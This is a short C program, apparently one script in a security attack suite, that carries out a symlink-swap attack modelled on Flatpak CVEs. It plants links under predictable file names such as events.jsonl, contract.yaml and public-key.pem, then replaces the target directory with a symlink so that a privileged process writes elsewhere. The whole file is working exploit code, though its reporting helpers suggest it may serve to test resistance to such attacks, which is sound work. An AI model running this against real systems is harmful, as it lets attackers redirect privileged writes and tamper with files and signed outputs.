/* SPDX-License-Identifier: Apache-2.0 */
/* Swaps the directory into which a privileged process will write for the job by a link to another (Flatpak's CVE-2026-34078 and 34079). */
#include "../attack.h"

int main(int argc, char **argv) {
  const char *folder = argument(argc, argv, 1), *to = argument(argc, argv, 2);
  char name[256];
  /* Names that it may know beforehand, inside the directory, and the directory itself. */
  const char *files[] = {"events.jsonl", "contract.yaml", "statement.dsse.json", "public-key.pem"};
  int planted = 0;
  for (unsigned i = 0; i < sizeof files / sizeof *files; i++) {
    char target[512];
    snprintf(name, sizeof name, "%s/%s", folder, files[i]);
    snprintf(target, sizeof target, "%s/%s", to, files[i]);
    planted += symlink(target, name) == 0;
  }
  snprintf(name, sizeof name, "%s-moved", folder);
  step(rename(folder, name), "moving the directory away");
  step(symlink(to, folder), "putting a link in its place");
  held("%d links were planted, and one in the directory's place", planted);
}
